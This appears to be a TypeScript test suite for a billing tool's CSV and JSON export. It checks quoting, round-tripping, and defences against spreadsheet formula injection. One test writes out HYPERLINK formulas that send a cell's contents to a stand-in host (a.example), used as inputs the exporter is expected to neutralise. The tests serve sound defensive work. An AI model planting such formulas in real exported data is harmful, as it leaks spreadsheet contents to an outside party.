/**
 * Listings as text: what comes out reads back to what went in, and no spreadsheet runs it.
 */
import { assert, describe, it } from "@effect/vitest"
import { DateTime, Effect, Result, Schema, Stream } from "effect"
import type { Order } from "@cloud-quota/core/Billing"
import { NotFound, Timeout } from "@cloud-quota/core/CloudQuotaError"
import * as Export from "@cloud-quota/core/Export"
import * as Json from "@cloud-quota/core/Json"
import * as Limit from "@cloud-quota/core/Limit"
import { MemberId, type MemberInfo } from "@cloud-quota/core/Member"
import * as Quantity from "@cloud-quota/core/Quantity"
import * as Tables from "@cloud-quota/core/Tables"
import { parseCsv } from "./fixtures/csv.ts"

const write = <Row>(encoder: Export.Encoder<Row>, rows: ReadonlyArray<Row>): Promise<string> =>
  Effect.runPromise(Stream.mkString(encoder(Stream.fromIterable(rows))))

const texts: Export.Table<ReadonlyArray<string>> = {
  columns: ["a", "b", "c"].map((name, index) => ({ name, kind: "text", value: (row) => row[index] }))
}

const at = DateTime.makeUnsafe("2026-11-01T08:00:00Z")

const order: Order = {
  id: "o-1",
  kind: "buy",
  status: "done",
  amount: Quantity.cny("12.50"),
  paid: Quantity.cny("-0.1"),
  createdAt: at,
  details: {}
}

/** A column of every kind, of which each row has a value or none. */
const kinds: Export.Table<number> = {
  columns: [
    { name: "text", kind: "text", value: (row) => (row === 0 ? undefined : "x") },
    { name: "boolean", kind: "boolean", value: (row) => (row === 0 ? undefined : row > 1) },
    { name: "integer", kind: "integer", value: (row) => (row === 0 ? undefined : row) },
    { name: "number", kind: "number", value: (row) => numbers[row] },
    { name: "decimal", kind: "decimal", value: (row) => (row === 0 ? undefined : "-1.10") },
    { name: "time", kind: "time", value: (row) => (row === 0 ? undefined : at) },
    { name: "paid", kind: "quantity", value: (row) => (row === 0 ? undefined : Quantity.cny("12.5")) },
    { name: "limit", kind: "limit", value: (row) => limits[row] },
    { name: "target", kind: "limit", value: (row) => limits[row] },
    { name: "reason", kind: "reason", value: (row) => reasons[row] }
  ]
}
const numbers = [undefined, 0.25, Number.POSITIVE_INFINITY]
const reasons = [
  undefined,
  new NotFound({ message: "gone", details: { code: "=1+1" } }),
  new Timeout({ message: "m" })
]
const limits = [undefined, Limit.finite(Quantity.minutes("60")), Limit.unlimited]

describe("CSV", () => {
  it("has amounts and units in columns of their own, and leaves empty what is not known", async () => {
    assert.strictEqual(
      await write(Export.csv(kinds), [0, 1, 2]),
      [
        "text,boolean,integer,number,decimal,time,paid,paid_unit,limit,limit_unit,unlimited,target,target_unit,targetUnlimited,reason,reason_code",
        ",,,,,,,,,,,,,,,",
        "x,false,1,0.25,-1.10,2026-11-01T08:00:00.000Z,12.50,CNY,60,minute,false,60,minute,false,NotFound,'=1+1",
        "x,true,2,,-1.10,2026-11-01T08:00:00.000Z,12.50,CNY,,,true,,,true,Timeout,",
        ""
      ].join("\r\n")
    )
  })

  it("has a header where there are no rows, and a byte order mark only where asked for", async () => {
    assert.strictEqual(await write(Export.csv(texts), []), "a,b,c\r\n")
    assert.strictEqual(
      await write(Export.csv(texts, { bom: true }), [["张三", "", ""]]),
      "\ufeffa,b,c\r\n张三,,\r\n"
    )
  })

  it("quotes what would be read as something else", async () => {
    const rows = [['a "b"', "x,y", "one\ntwo\r\nthree"]]
    const text = await write(Export.csv(texts), rows)
    assert.strictEqual(text, 'a,b,c\r\n"a ""b""","x,y","one\ntwo\r\nthree"\r\n')
    assert.deepStrictEqual(parseCsv(text), [["a", "b", "c"], ...rows])
  })

  const Cell = Schema.Array(
    Schema.Literals(["a", "é", "张", ",", '"', "\r", "\n", " ", "=", "-", "1", ".", "😀", "\ufeff"])
  ).pipe(Schema.check(Schema.isMaxLength(6)))

  it.effect.prop(
    "reads back what was written, in a parser that is not its own",
    [Schema.Array(Schema.Tuple([Cell, Cell, Cell]))],
    ([drawn]) =>
      Effect.gen(function* () {
        const rows = drawn.map((row) => row.map((cell) => cell.join("")))
        const text = yield* Stream.mkString(Export.csv(texts)(Stream.fromIterable(rows)))
        const [header, ...read] = parseCsv(text)
        assert.deepStrictEqual(header, ["a", "b", "c"])
        // An apostrophe before what looks like a formula is all that differs.
        assert.deepStrictEqual(
          read.map((row) => row.map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n])/, ""))),
          rows
        )
      })
  )
})

describe("a spreadsheet", () => {
  const cellOf = async (text: string): Promise<string | undefined> =>
    parseCsv(await write(Export.csv(texts), [[text, "", ""]]))[1]?.[0]

  it("gets no formula from a text that looks like one", async () => {
    for (const first of ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]) {
      const formula = `${first}HYPERLINK("http://a.example?"&A1,"x")`
      assert.strictEqual(await cellOf(formula), `'${formula}`)
    }
    assert.strictEqual(await cellOf("-2+3"), "'-2+3")
    assert.strictEqual(await cellOf("-1\n=1"), "'-1\n=1")
    assert.strictEqual(await cellOf("-1e5"), "'-1e5")
    assert.strictEqual(await cellOf("a=b"), "a=b")
  })

  it("keeps numbers as numbers, also as texts and below zero", async () => {
    for (const number of ["-12.50", "+1", "0", "60001"]) assert.strictEqual(await cellOf(number), number)
    const csv = await write(Export.csv(Tables.orders), [order])
    assert.include(csv, ",12.50,CNY,-0.10,CNY,")
  })

  it.effect.prop("never gets a cell that begins as a formula and is no number", [Schema.String], ([text]) =>
    Effect.gen(function* () {
      const table: Export.Table<string> = {
        columns: [
          { name: "=text", kind: "text", value: (row) => row },
          { name: "decimal", kind: "decimal", value: (row) => `=${row}` },
          { name: "amount", kind: "quantity", value: (row) => Quantity.make(`@${row}`, 1n) }
        ]
      }
      for (const cell of parseCsv(yield* Stream.mkString(Export.csv(table)(Stream.make(text)))).flat()) {
        assert.isTrue(
          !/^[=+\-@\t\r\n＝＋－＠]/.test(cell) || /^[+-]?\d+(\.\d+)?$/.test(cell),
          JSON.stringify(cell)
        )
      }
    })
  )
})

describe("JSON", () => {
  const known = {
    text: "x",
    decimal: "-1.10",
    time: "2026-11-01T08:00:00.000Z",
    paid: { unit: "CNY", amount: "12.50" }
  }
  const sixty = { unit: "minute", amount: "60" }
  const expected = [
    {
      text: null,
      boolean: null,
      integer: null,
      number: null,
      decimal: null,
      time: null,
      paid: null,
      limit: null,
      unlimited: null,
      target: null,
      targetUnlimited: null,
      reason: null
    },
    {
      ...known,
      boolean: false,
      integer: 1,
      number: 0.25,
      limit: sixty,
      unlimited: false,
      target: sixty,
      targetUnlimited: false,
      reason: { _tag: "NotFound", message: "gone", details: { code: "=1+1" } }
    },
    {
      ...known,
      boolean: true,
      integer: 2,
      number: null,
      limit: null,
      unlimited: true,
      target: null,
      targetUnlimited: true,
      reason: { _tag: "Timeout", message: "m" }
    }
  ]

  it("has the same fields in every row, as lines or as one list", async () => {
    const lines = await write(Export.ndjson(kinds), [0, 1, 2])
    assert.isTrue(lines.endsWith("\n"))
    assert.deepStrictEqual(
      lines
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line)),
      expected
    )
    assert.deepStrictEqual(JSON.parse(await write(Export.json(kinds), [0, 1, 2])), expected)
  })

  it("is a list also where there is nothing, or a piece at a time", async () => {
    assert.strictEqual(await write(Export.ndjson(kinds), []), "")
    assert.deepStrictEqual(JSON.parse(await write(Export.json(kinds), [])), [])
    const pieces = Stream.concat(Stream.make(0, 1), Stream.make(2)).pipe(Export.json(kinds), Stream.mkString)
    assert.deepStrictEqual(JSON.parse(await Effect.runPromise(pieces)), expected)
  })

  it.effect.prop(
    "has one line for each row, which reads back as the row",
    [Schema.Array(Schema.Tuple([Schema.String, Schema.String, Schema.String]))],
    ([rows]) =>
      Effect.gen(function* () {
        const awkward: ReadonlyArray<ReadonlyArray<string>> = [
          ...rows,
          ["\u2028\u2029", "\ud800", '"\\\n\r\u0000'],
          ["=1+1", "-1", "＝1"]
        ]
        const text = yield* Stream.mkString(Export.ndjson(texts)(Stream.fromIterable(awkward)))
        const lines = text.split("\n")
        assert.strictEqual(lines.pop(), "")
        const read = lines.map(
          (line) => JSON.parse(line) as { readonly a: string; readonly b: string; readonly c: string }
        )
        assert.deepStrictEqual(
          read.map(({ a, b, c }) => [a, b, c]),
          awkward
        )
        assert.deepStrictEqual(
          JSON.parse(yield* Stream.mkString(Export.json(texts)(Stream.fromIterable(awkward)))),
          read
        )
      })
  )

  it("has the provider's row only where asked for, with every digit", async () => {
    const wire = Result.getOrThrow(
      Json.parse(
        '{"Id": 9007199254740993, "Rate": 0.12345678901234567890, "Tags": [{"n": 1}, null], "toJSON": 1}'
      )
    ) as Order["details"]
    const rows = [{ ...order, details: wire }]
    assert.notInclude(await write(Export.ndjson(Tables.orders), rows), "details")
    const { details } = JSON.parse(await write(Export.ndjson(Tables.orders, { details: true }), rows))
    assert.deepStrictEqual(details, {
      Id: "9007199254740993",
      Rate: "0.12345678901234567890",
      Tags: [{ n: 1 }, null],
      toJSON: 1
    })
    assert.throws(() => Export.json(Tables.members, { details: true }), RangeError, "have no details")
  })
})

describe("a table", () => {
  it("is refused if it is none, or has one name twice", () => {
    const twice = (names: ReadonlyArray<string>): Export.Table<string> => ({
      columns: names.map((name) => ({ name, kind: "text", value: () => name }))
    })
    for (const write of [Export.csv, Export.ndjson, Export.json]) {
      assert.throws(() => write(twice(["a", "a"])), RangeError, 'two columns are called "a"')
      for (const wrong of [undefined, {}, { columns: [] }, Tables]) {
        assert.throws(() => write(wrong as Export.Table<string>), RangeError, "take one of Tables")
      }
    }
    const paid: Export.Column<string> = { name: "paid", kind: "quantity", value: () => undefined }
    const unit: Export.Column<string> = { name: "paid_unit", kind: "text", value: () => undefined }
    assert.throws(() => Export.csv({ columns: [paid, unit] }), RangeError, "paid_unit")
  })

  it("shows each field of a row of every listing", async () => {
    const member: MemberInfo = {
      id: MemberId.make("m-1"),
      user: "u-1",
      name: "张三",
      email: "ada@example.com",
      person: "ada",
      status: { _tag: "unknown", raw: "Paused" }
    }
    assert.strictEqual(
      await write(Export.csv(Tables.members), [member]),
      "id,user,name,email,person,status,rawStatus\r\nm-1,u-1,张三,ada@example.com,ada,unknown,Paused\r\n"
    )
    const metric = {
      id: "video-minutes",
      kind: "ceiling",
      unit: "minute",
      step: Quantity.minutes(1),
      minimum: Quantity.minutes(0),
      maximum: Quantity.minutes(9),
      unlimited: true,
      title: { en: "", zh: "" }
    } as const
    const id = MemberId.make("m-1")
    const lines = await Promise.all([
      write(Export.csv(Tables.quotas), [
        {
          member: id,
          name: "张三",
          person: "ada",
          metric,
          limit: Limit.unlimited,
          used: Quantity.minutes("0.5"),
          observedAt: at
        }
      ]),
      write(Export.csv(Tables.orders), [
        {
          ...order,
          member: id,
          person: "ada",
          type: "T",
          state: "S",
          chargeType: "C",
          resourceId: "r",
          product: "p"
        }
      ]),
      write(Export.csv(Tables.refundQuotes), [
        { resourceId: "r", refundable: true, amount: Quantity.cny("4.69928"), message: "m" }
      ]),
      write(Export.csv(Tables.entitlements), [
        {
          id: "e",
          product: "p",
          metric: "m",
          total: Quantity.count(3),
          used: Quantity.count(1),
          available: Quantity.count(2),
          status: "active",
          startsAt: at,
          expiresAt: at,
          orderId: "o",
          details: {}
        }
      ]),
      write(Export.csv(Tables.balanceParts), [{ kind: "debt", name: "欠费", amount: Quantity.cny("-1.00") }]),
      write(Export.csv(Tables.usage), [
        {
          member: id,
          person: "ada",
          metric: "m",
          product: "p",
          used: Quantity.minutes("1.5"),
          at,
          details: {}
        }
      ]),
      write(Export.csv(Tables.costs), [
        {
          month: "2026-11",
          member: id,
          person: "ada",
          product: "p",
          resourceId: "r",
          amount: Quantity.cny("2.00"),
          cost: Quantity.cny("1.00"),
          details: {}
        }
      ]),
      write(Export.csv(Tables.history), [
        {
          at,
          source: "both",
          kind: "grant",
          outcome: "succeeded",
          member: id,
          person: "ada",
          metric: "allowance",
          delta: Quantity.cny("10.00"),
          run: "topup/2026-11",
          change: "7",
          text: "t",
          note: "n"
        }
      ]),
      write(Export.csv(Tables.results), [
        {
          member: id,
          metric: "allowance",
          outcome: { _tag: "Refused", check: "cap" },
          before: { limit: Limit.finite(Quantity.cny("1.00")), available: Quantity.cny("0.50") },
          delta: Quantity.cny("2.00"),
          target: Limit.unlimited,
          money: "not-moved",
          next: "decide",
          evidence: "response",
          requestId: "q",
          message: "m"
        }
      ]),
      write(Export.csv(Tables.intents), [
        {
          id: "7",
          account: "k",
          run: "r",
          member: id,
          metric: "allowance",
          attempt: 1,
          request: "adjust 2.00 CNY",
          before: { limit: Limit.finite(Quantity.cny("1.00")) },
          after: Limit.finite(Quantity.cny("3.00")),
          delta: Quantity.cny("2.00"),
          fence: 1,
          owner: "o",
          state: "conflict",
          armed: 1,
          unanswered: 0,
          evidence: "human",
          closing: "drift",
          requestId: "q",
          detail: "d",
          createdAt: 0,
          updatedAt: 1
        }
      ])
    ])
    assert.deepStrictEqual(
      lines.map((text) => text.split("\r\n")[1]),
      [
        "m-1,张三,ada,video-minutes,ceiling,,,true,0.5,minute,,,0,2026-11-01T08:00:00.000Z",
        "o-1,m-1,,ada,buy,done,T,S,C,12.50,CNY,-0.10,CNY,r,p,2026-11-01T08:00:00.000Z",
        "r,true,4.69928,CNY,m",
        "e,p,m,3,count,1,count,2,count,active,2026-11-01T08:00:00.000Z,2026-11-01T08:00:00.000Z,o",
        "debt,欠费,-1.00,CNY",
        "m-1,,ada,m,p,1.5,minute,2026-11-01T08:00:00.000Z",
        "2026-11,m-1,,ada,p,r,2.00,CNY,1.00,CNY",
        "2026-11-01T08:00:00.000Z,both,grant,succeeded,m-1,,ada,allowance,10.00,CNY,topup/2026-11,7,t,n",
        "m-1,,allowance,Refused,,,,not-moved,decide,1.00,CNY,false,0.50,CNY,2.00,CNY,,,true,,,,,,,,,cap,,,,,response,q,m",
        "7,r,m-1,,allowance,1,adjust 2.00 CNY,conflict,1.00,CNY,false,2.00,CNY,3.00,CNY,false,human,drift,q,d,1970-01-01T00:00:00.000Z,1970-01-01T00:00:00.001Z"
      ]
    )
  })
})

describe("a listing", () => {
  it("is written as it is read: nothing is held back, and a failure comes through", async () => {
    const seen: Array<string> = []
    const rows = Stream.range(1, 5).pipe(
      Stream.rechunk(1),
      Stream.mapEffect((number) =>
        number === 4 ? Effect.fail("no more") : Effect.succeed([`${number}`, "", ""])
      ),
      Export.csv(texts)
    )
    const failure = await Effect.runPromise(
      Effect.flip(Stream.runForEach(rows, (text) => Effect.sync(() => void seen.push(text))))
    )
    assert.strictEqual(failure, "no more")
    assert.deepStrictEqual(seen, ["a,b,c\r\n", "1,,\r\n", "2,,\r\n", "3,,\r\n"])
  })
})
